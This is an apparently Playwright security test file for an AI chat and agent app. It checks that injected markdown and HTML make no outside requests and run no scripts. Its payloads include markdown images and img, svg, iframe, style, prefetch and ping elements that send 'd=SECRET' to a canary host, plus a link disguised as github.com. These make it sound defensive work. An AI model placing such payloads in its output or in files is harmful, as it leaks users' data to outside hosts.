import { writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { expect, type Page } from '@playwright/test';
import { test, webOnly } from './app-test';
import { approvalDialog, makeCalls, question, write } from './testing/approval-dialog';
import { conversationRow } from './testing/conversation-row';
import { openCard } from './testing/open-card';
import { sendMessage } from './testing/send-message';
import { writeEvents } from './testing/write-events';

test.use({ model: 'parrot' });

/** The target of the leaks; it answers and counts every request. */
let canary: Server;
let origin: string;
const heard: string[] = [];

test.beforeAll(async () => {
  canary = createServer((request, response) => {
    heard.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end('heard');
  });
  await new Promise<void>((listening) => canary.listen(0, '127.0.0.1', listening));
  origin = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
});
test.afterAll(() => canary.close());
test.beforeEach(() => heard.splice(0));

const image = () => `![x](${origin}/?d=SECRET)`;
const elements = () =>
  [
    `<img src="${origin}/img?d=SECRET" onerror="window.hasRun = true">`,
    '<img src=x onerror="window.hasRun = true">',
    `<svg onload="window.hasRun = true"><image href="${origin}/svg" /></svg>`,
    `<iframe src="${origin}/iframe"></iframe><iframe srcdoc="<script>parent.hasRun = true</script>"></iframe>`,
    `<p style="background: url(${origin}/style)">styled</p>`,
    `<style>body { background: url(${origin}/sheet) }</style>`,
    `<link rel=prefetch href="${origin}/prefetch"><link rel="dns-prefetch" href="${origin}/dns">`,
    `<script>window.hasRun = true; fetch('${origin}/script')</script>`,
    `<a href="${origin}/ping" ping="${origin}/ping">a</a> [b](javascript:window.hasRun=true)`,
  ].join('\n\n');

/** Records every request, sent or blocked, that Chromium reports outside the page's own host. */
async function watchRequests(page: Page, url: string) {
  const asked: string[] = [];
  const own = new URL(url).host;
  const note = (address: string) => {
    if (!address.startsWith('data:') && new URL(address).host !== own) asked.push(address);
  };
  page.context().on('request', (request) => note(request.url()));
  const session = await page.context().newCDPSession(page);
  await session.send('Network.enable');
  session.on('Network.requestWillBeSent', ({ request }) => note(request.url));
  session.on('Network.webSocketCreated', ({ url: address }) => note(address));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ blockedURI }) => {
      // One of our libraries checks whether it may use `eval`, and works without it.
      if (blockedURI !== 'eval') Object.assign(window, { refused: blockedURI });
    });
  });
  return asked;
}

async function expectSilence(page: Page, asked: readonly string[]): Promise<void> {
  // Requests of drawn content go out before this later one to the page's own host.
  await page.evaluate(async () => {
    for (let frame = 0; frame < 2; frame += 1) await new Promise(requestAnimationFrame);
    await fetch('/');
  });
  const { hasRun, refused } = await page.evaluate(() => {
    const { hasRun, refused } = window as unknown as { hasRun?: boolean; refused?: string };
    return { hasRun, refused };
  });
  expect({ asked, heard, hasRun, refused }).toEqual({ asked: [], heard: [], hasRun: undefined, refused: undefined });
}

test('the canary hears what is asked of it', async () => {
  await fetch(`${origin}/?d=SECRET`);
  expect(heard).toEqual(['/?d=SECRET']);
});

for (const [id, payload] of [
  ['EX-01', image],
  ['EX-02', elements],
] as const) {
  test(`${id}: 0 requests and 0 scripts, as answer, thinking, user text, title, tool result and file content`, {
    tag: '@host',
  }, async ({ dataPath, app }) => {
    await writeEvents(dataPath, payload(), ({ runId, messageId, at }) => [
      { type: 'thinking', messageId, text: payload(), signature: 's', at },
      { type: 'parse-results', messageId, results: [{ kind: 'text', text: payload() }], at },
      { type: 'answer-finished', messageId, finish: 'stop', at },
      { type: 'run-completed', runId, at },
    ]);
    const { page, url } = await app.restart();
    const asked = await watchRequests(page, url);
    await page.goto(url);
    await conversationRow(page, payload().slice(0, 20)).click();
    await page.getByRole('button', { name: /^Thought for/ }).click();
    await expect(page.getByRole('main')).toContainText(id === 'EX-01' ? new URL(origin).host : '<iframe src=');
    await expectSilence(page, asked);

    writeFileSync(join(app.workspacePath, 'page.md'), payload());
    await page.getByRole('button', { name: 'New conversation', exact: true }).click();
    await makeCalls(
      page,
      { tool: 'file-read', parameters: { path: 'page.md' } },
      write('page.md', `${payload()}\nmore`),
    );
    const { region, edit } = question(page, 'Replace page.md?');
    const { dialog, deny } = approvalDialog(page);
    await expect(region.locator('.cm-content')).toContainText('more');
    await expectSilence(page, asked);
    await edit();
    await expect(dialog.locator('.cm-content')).toContainText('more');
    await expectSilence(page, asked);
    await deny.click();
    const read = page.getByRole('article', { name: /^Read file/ });
    await openCard(read);
    await expect(read).toContainText('d=SECRET');
    await expectSilence(page, asked);
  });
}

test(
  'EX-05: a link shows its full address and asks; only then is it opened',
  webOnly('links open in a tab only in a browser; the desktop gets them from main'),
  async ({ page, app }) => {
    const asked = await watchRequests(page, app.url);
    await page.goto(app.url);
    const address = `${origin}/?d=${'SECRET'.repeat(40)}`;
    await sendMessage(page, `[github.com](${address})`);
    const link = page.getByRole('main').getByRole('link', { name: 'github.com' });
    await link.hover();
    await link.click({ modifiers: ['ControlOrMeta'] });
    const dialog = page.getByRole('dialog', { name: 'Open this link?' });
    await expect(dialog).toContainText(address);
    await expect(dialog).toContainText(`The link text says github.com, but the link goes to ${new URL(origin).host}.`);
    await expectSilence(page, asked);
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await expect(dialog).toBeHidden();
    await link.press('Enter');
    const opened = page.context().waitForEvent('page');
    await dialog.getByRole('button', { name: 'Open in browser' }).click();
    const tab = await opened;
    await tab.waitForLoadState();
    expect(heard[0]).toBe(address.slice(origin.length));
    expect(await tab.evaluate(() => [window.opener, document.referrer])).toEqual([null, '']);
  },
);

test('EX-12: an address in a file that is edited is never asked for by the editor', { tag: '@host' }, async ({
  page,
  app,
}) => {
  const asked = await watchRequests(page, app.url);
  writeFileSync(join(app.workspacePath, 'settings.json'), '{\n  "a": 1\n}\n');
  await page.goto(app.url);
  await makeCalls(page, write('settings.json', `{\n  "$schema": "${origin}/?d=SECRET",\n  "a": 1\n}\n`));
  const { region, edit } = question(page, 'Replace settings.json?');
  const { dialog, approve } = approvalDialog(page);
  await expect(region.locator('.cm-content')).toContainText('$schema');
  await expectSilence(page, asked);
  await edit();
  await expect(dialog.locator('.cm-content')).toContainText('$schema');
  await expectSilence(page, asked);
  await approve.click();
  await expect(page.getByRole('article', { name: /^Write file/ })).toContainText('Completed');
  await expectSilence(page, asked);
});
